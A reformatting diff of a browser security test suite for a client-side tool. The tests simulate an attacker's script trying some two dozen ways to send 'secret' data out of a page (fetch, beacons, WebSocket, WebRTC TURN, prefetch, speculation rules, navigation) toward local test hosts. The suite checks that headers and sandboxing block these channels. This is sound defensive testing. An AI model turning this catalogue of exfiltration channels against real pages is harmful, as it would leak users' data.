@@ -84,10 +84,18 @@ function attack({ base: to, ports }) {
     return element;
   };
   const ways = {
-    fetch: () => { fetch(`${to}/fetch`, { mode: "no-cors" }).catch(() => null); },
-    xhr: () => { const request = new XMLHttpRequest(); request.open("POST", `${to}/xhr`); request.send("secret"); },
+    fetch: () => {
+      fetch(`${to}/fetch`, { mode: "no-cors" }).catch(() => null);
+    },
+    xhr: () => {
+      const request = new XMLHttpRequest();
+      request.open("POST", `${to}/xhr`);
+      request.send("secret");
+    },
     beacon: () => navigator.sendBeacon(`${to}/beacon`, "secret"),
-    image: () => { new Image().src = `${to}/image`; },
+    image: () => {
+      new Image().src = `${to}/image`;
+    },
     websocket: () => new WebSocket(`${to.replace("http", "ws")}/websocket`),
     eventsource: () => new EventSource(`${to}/eventsource`),
     form: () => {
@@ -95,23 +103,41 @@ function attack({ base: to, ports }) {
       put("form", { action: `${to}/form`, method: "post", target: "out" }, document.body).submit();
     },
     stylesheet: () => put("link", { rel: "stylesheet", href: `${to}/stylesheet` }),
-    font: () => { new FontFace("x", `url(${to}/font)`).load().catch(() => null); },
+    font: () => {
+      new FontFace("x", `url(${to}/font)`).load().catch(() => null);
+    },
     prefetch: () => put("link", { rel: "prefetch", href: `${to}/prefetch` }),
     frame: () => put("iframe", { src: `${to}/frame` }, document.body),
     media: () => put("video", { src: `${to}/media` }, document.body),
     object: () => put("object", { data: `${to}/object` }, document.body),
     script: () => put("script", { src: `${to}/script` }),
     worker: () => new Worker(URL.createObjectURL(new Blob([`importScripts("${to}/worker")`]))),
-    module: () => { import(`${to}/module`).catch(() => null); },
+    module: () => {
+      import(`${to}/module`).catch(() => null);
+    },
     preload: () => put("link", { rel: "preload", as: "fetch", href: `${to}/preload` }),
-    background: () => { document.body.style.backgroundImage = `url(${to}/background)`; },
+    background: () => {
+      document.body.style.backgroundImage = `url(${to}/background)`;
+    },
     later: () => fetchLater(`${to}/later`, { activateAfter: 0 }),
     ping: () => put("a", { href: "#ping", target: "_self", ping: `${to}/ping` }, document.body).click(),
-    speculation: () => put("script", { type: "speculationrules" }, document.head, JSON.stringify({ prefetch: [{ urls: [`${to}/speculation`], eagerness: "immediate" }] })),
-    webtransport: () => { new WebTransport(`https://127.0.0.1:${ports.webtransport}`).ready.catch(() => null); },
+    speculation: () =>
+      put(
+        "script",
+        { type: "speculationrules" },
+        document.head,
+        JSON.stringify({ prefetch: [{ urls: [`${to}/speculation`], eagerness: "immediate" }] }),
+      ),
+    webtransport: () => {
+      new WebTransport(`https://127.0.0.1:${ports.webtransport}`).ready.catch(() => null);
+    },
   };
   for (const way of Object.values(ways)) {
-    try { way(); } catch { /* Refused at once. */ }
+    try {
+      way();
+    } catch {
+      /* Refused at once. */
+    }
   }
   return Object.keys(ways);
 }
@@ -169,7 +195,10 @@ function slip({ tried, base, ports }) {
     const peer = new Peer({ iceServers: [{ urls: url, username: "secret", credential: "secret" }] });
     (window.held ??= []).push(peer);
     peer.createDataChannel("out");
-    peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch(() => null);
+    peer
+      .createOffer()
+      .then((offer) => peer.setLocalDescription(offer))
+      .catch(() => null);
   };
   const put = (name, attributes) => {
     const element = document.createElement(name);
@@ -182,7 +211,9 @@ function slip({ tried, base, ports }) {
     "webrtc-tcp": () => call(RTCPeerConnection, `turn:127.0.0.1:${ports["webrtc-tcp"]}?transport=tcp`),
     // A page that had taken the constructor away would be passed by: an empty frame has its own.
     "webrtc-realm": () => call(put("iframe", {}).contentWindow.RTCPeerConnection, `stun:127.0.0.1:${ports["webrtc-realm"]}`),
-    location: () => { location.href = `${base}/location`; },
+    location: () => {
+      location.href = `${base}/location`;
+    },
     refresh: () => put("meta", { "http-equiv": "refresh", content: `0;url=${base}/refresh` }),
     link: () => put("a", { href: `${base}/link`, target: "_self" }).click(),
     window: () => window.open(`${base}/window`),
@@ -198,7 +229,9 @@ const SLIPS = PAGES_OF_SLIPS.flat().sort();
 async function slips(address, place = (page) => page) {
   const pages = await Promise.all(PAGES_OF_SLIPS.map(() => visit(site, address)));
   const places = await Promise.all(pages.map(place));
-  const { arrived } = await arrivals(() => Promise.all(PAGES_OF_SLIPS.map((tried, index) => places[index].evaluate(slip, { tried, ...target() }).catch(() => null))));
+  const { arrived } = await arrivals(() =>
+    Promise.all(PAGES_OF_SLIPS.map((tried, index) => places[index].evaluate(slip, { tried, ...target() }).catch(() => null))),
+  );
   for (const page of pages) await page.context().close();
   return arrived;
 }
@@ -223,7 +256,10 @@ for (const [name, { address, place }] of Object.entries({
 
 // These are limits, told in docs/embedding.md. They fail on the day that the browser closes them.
 
-for (const [name, file] of [["page", "nl/index.html"], ["one file", "kennismigrant-check.html"]])
+for (const [name, file] of [
+  ["page", "nl/index.html"],
+  ["one file", "kennismigrant-check.html"],
+])
   test(`a known limit, and the control: without our headers a script in the ${name} gets out by WebRTC and by leaving`, async () => {
     const html = await readFile(path.join(DIST, file), "utf8");
     assert.match(html, POLICY);
@@ -234,7 +270,10 @@ for (const [name, file] of [["page", "nl/index.html"], ["one file", "kennismigra
 test("a known limit, and the control: without our headers a script in the sandboxed frame does too, but has no other frame to work from", async () => {
   host.putRaw("/limit/embed", await readFile(path.join(DIST, "embed/index.html"), "utf8"));
   host.put("/limit/host", `<iframe src="/limit/embed" title="Controle" sandbox="allow-scripts allow-popups"></iframe>`);
-  assert.deepEqual(await slips(`${host.base}/limit/host`, framed), SLIPS.filter((way) => way !== "webrtc-realm"));
+  assert.deepEqual(
+    await slips(`${host.base}/limit/host`, framed),
+    SLIPS.filter((way) => way !== "webrtc-realm"),
+  );
 });
 
 test("a known limit: the one file on a disk has no headers either", async () => {
@@ -255,13 +294,20 @@ test("a known limit: this browser does not know `webrtc 'block'`, the word of th
 async function ahead(address) {
   const folder = await mkdtemp(path.join(tmpdir(), "ahead-"));
   const log = path.join(folder, "net.json");
-  const context = await chromium.launchPersistentContext(path.join(folder, "profile"), { executablePath: process.env.CHROME ?? "/usr/bin/chromium", args: ["--no-sandbox", "--disable-gpu", `--log-net-log=${log}`] });
+  const context = await chromium.launchPersistentContext(path.join(folder, "profile"), {
+    executablePath: process.env.CHROME ?? "/usr/bin/chromium",
+    args: ["--no-sandbox", "--disable-gpu", `--log-net-log=${log}`],
+  });
   try {
     attacker.log.length = 0;
     const page = await context.newPage();
     await page.goto(address);
     await page.evaluate((port) => {
-      for (const [rel, href] of [["preconnect", `http://127.0.0.1:${port}`], ["preconnect", "http://secret-connect.example"], ["dns-prefetch", "http://secret-name.example"]]) {
+      for (const [rel, href] of [
+        ["preconnect", `http://127.0.0.1:${port}`],
+        ["preconnect", "http://secret-connect.example"],
+        ["dns-prefetch", "http://secret-name.example"],
+      ]) {
         const link = document.createElement("link");
         link.rel = rel;
         link.href = href;
@@ -285,7 +331,16 @@ test("with our headers a script in the page looks up no name and connects nowher
 });
 
 test("all that we serve says it, since a script could work from a page of the same site that does not", async () => {
-  for (const place of ["/", "/nl/", "/demo/", "/embed/", "/norms.json", "/norms.csv", "/kennismigrant-check.html", "/kennismigrant-check.js"]) {
+  for (const place of [
+    "/",
+    "/nl/",
+    "/demo/",
+    "/embed/",
+    "/norms.json",
+    "/norms.csv",
+    "/kennismigrant-check.html",
+    "/kennismigrant-check.js",
+  ]) {
     const { headers } = await fetch(site.base + place);
     assert.match(headers.get("Connection-Allowlist") ?? "", /^\(response-origin .*\);redirects=allow$/, place);
   }
@@ -297,9 +352,14 @@ test("whatever our pages and the engine's sources link to can be reached", async
   initSync({ module: await readFile(path.join(PKG, "kennismigrant_bg.wasm")) });
   const pages = (await readdir(DIST, { recursive: true })).filter((name) => name.endsWith(".html"));
   const html = (await Promise.all(pages.map((name) => readFile(path.join(DIST, name), "utf8")))).join();
-  const linked = [...html.matchAll(/<a [^>]*href="(https?:[^"]+)"/g)].map(([, url]) => url).concat(sources().flatMap(({ url }) => url ?? []));
+  const linked = [...html.matchAll(/<a [^>]*href="(https?:[^"]+)"/g)]
+    .map(([, url]) => url)
+    .concat(sources().flatMap(({ url }) => url ?? []));
   assert.ok(linked.length > 50, String(linked.length));
-  assert.deepEqual([...new Set(linked.map((url) => new URL(url).origin))].filter((origin) => !allowed.includes(origin)), []);
+  assert.deepEqual(
+    [...new Set(linked.map((url) => new URL(url).origin))].filter((origin) => !allowed.includes(origin)),
+    [],
+  );
   // Nobody is let in whom we do not name: no star, no scheme without a lock.
   for (const origin of allowed) assert.match(origin, /^https:\/\/[a-z0-9.-]+$/);
 });
@@ -308,17 +368,27 @@ test("a link to a place that sends its readers on works, as those to the law do;
   const [, value] = /Connection-Allowlist: (.*)/.exec(headersFile({ filePolicy: "", linked: [host.base] }));
   const law = await startHost();
   host.sendOn("/law", `${law.base}/article`);
-  attacker.putRaw("/linking", `<a id="named" href="${host.base}/law" target="_blank">law</a><a id="not-named" href="${law.base}/other" target="_blank">other</a>`, { "Connection-Allowlist": value });
+  attacker.putRaw(
+    "/linking",
+    `<a id="named" href="${host.base}/law" target="_blank">law</a><a id="not-named" href="${law.base}/other" target="_blank">other</a>`,
+    { "Connection-Allowlist": value },
+  );
   const page = await visit(site, `${attacker.base}/linking`);
   for (const id of ["#named", "#not-named"]) await page.click(id);
   await page.waitForTimeout(700);
-  assert.deepEqual(law.log.filter((url) => url !== "/favicon.ico"), ["/article"]);
+  assert.deepEqual(
+    law.log.filter((url) => url !== "/favicon.ico"),
+    ["/article"],
+  );
   await page.context().close();
   await law.stop();
 });
 
 test("the element stands in its host's page: nothing of ours holds there, and under a host's own headers it works", async () => {
-  const STRICT = { "Content-Security-Policy": `default-src 'none'; script-src ${site.base} 'wasm-unsafe-eval'; img-src data:`, "Connection-Allowlist": `(response-origin "${site.base}")` };
+  const STRICT = {
+    "Content-Security-Policy": `default-src 'none'; script-src ${site.base} 'wasm-unsafe-eval'; img-src data:`,
+    "Connection-Allowlist": `(response-origin "${site.base}")`,
+  };
   host.put("/guarded-element", "<kennismigrant-check></kennismigrant-check>", { head: ELEMENT(site), ...STRICT });
   const { arrived } = await arrivals(async () => {
     const page = await visit(site, `${host.base}/guarded-element`);
@@ -334,8 +404,20 @@ test("the element stands in its host's page: nothing of ours holds there, and un
 
 test("an attacker's script in the sandboxed frame cannot take the host's page, the frame or a new window elsewhere", async () => {
   const leave = (to) => {
-    for (const way of [() => { window.top.location = `${to}/top`; }, () => window.open(`${to}/window`), () => { window.location = `${to}/self`; }])
-      try { way(); } catch { /* Refused at once. */ }
+    for (const way of [
+      () => {
+        window.top.location = `${to}/top`;
+      },
+      () => window.open(`${to}/window`),
+      () => {
+        window.location = `${to}/self`;
+      },
+    ])
+      try {
+        way();
+      } catch {
+        /* Refused at once. */
+      }
   };
   host.put("/guarded", FRAME(site), { head: RESIZER(site), "Content-Security-Policy": `frame-src ${site.base}` });
   const page = await visit(site, `${host.base}/guarded`);
@@ -347,7 +429,10 @@ test("an attacker's script in the sandboxed frame cannot take the host's page, t
 
   // Without our headers and the host's `frame-src` the sandbox alone keeps the host's page in place; without the sandbox nothing does.
   host.putRaw("/unheaded", await readFile(path.join(DIST, "embed/index.html"), "utf8"));
-  for (const [sandbox, expected] of [['sandbox="allow-scripts"', ["self"]], ["", ["self", "top", "window"]]]) {
+  for (const [sandbox, expected] of [
+    ['sandbox="allow-scripts"', ["self"]],
+    ["", ["self", "top", "window"]],
+  ]) {
     host.put("/unguarded", `<iframe src="/unheaded" title="Controle" ${sandbox}></iframe>`);
     const open = await visit(site, `${host.base}/unguarded`);
     const unguarded = await framed(open);
@@ -360,7 +445,16 @@ test("an attacker's script in the sandboxed frame cannot take the host's page, t
 test("the frame in a sandbox has nothing to store in, and works", async () => {
   const page = await visit(site, `${host.base}/frame`);
   const frame = await toolFrame(page);
-  const refused = await frame.evaluate(() => [() => localStorage, () => sessionStorage, () => document.cookie].map((look) => { try { look(); return "open"; } catch ({ name }) { return name; } }));
+  const refused = await frame.evaluate(() =>
+    [() => localStorage, () => sessionStorage, () => document.cookie].map((look) => {
+      try {
+        look();
+        return "open";
+      } catch ({ name }) {
+        return name;
+      }
+    }),
+  );
   assert.deepEqual(refused, ["SecurityError", "SecurityError", "SecurityError"]);
   await page.context().close();
 });
@@ -371,7 +465,8 @@ test("the engine imports its own glue and nothing else: it has no way to the net
   assert.ok(imports.length > 0);
   assert.deepEqual([...new Set(imports.map(({ module: from }) => from))], ["./kennismigrant_bg.js"]);
   const names = imports.map(({ name }) => name.replace(/^__wbg_|_[0-9a-f]{16}$/g, ""));
-  for (const name of names) assert.doesNotMatch(name, /fetch|xml|socket|beacon|crypto|random|now|date|window|document|storage|global|self/i);
+  for (const name of names)
+    assert.doesNotMatch(name, /fetch|xml|socket|beacon|crypto|random|now|date|window|document|storage|global|self/i);
 });
 
 test("the tool never opens a WebRTC connection", async () => {
@@ -379,7 +474,11 @@ test("the tool never opens a WebRTC connection", async () => {
   const page = await visit(site, "about:blank");
   await page.addInitScript(() => {
     window.connections = 0;
-    window.RTCPeerConnection = class { constructor() { window.connections += 1; } };
+    window.RTCPeerConnection = class {
+      constructor() {
+        window.connections += 1;
+      }
+    };
   });
   await page.goto(`${site.base}/nl/`);
   const me = visitor(page);
